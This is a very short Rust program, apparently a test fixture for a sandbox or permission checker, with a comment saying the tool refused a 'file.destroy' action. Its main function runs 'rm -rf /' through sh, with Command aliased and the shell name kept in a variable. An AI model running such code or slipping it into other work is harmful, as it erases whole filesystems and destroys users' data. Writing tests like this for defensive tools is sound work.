// nacre: refused file.destroy
use std::process::{self, Command as C};

fn main() {
    let name = "sh";
    C::new(name).args(["-c", "rm -rf /"]).status().unwrap();
    process::exit(0);
}
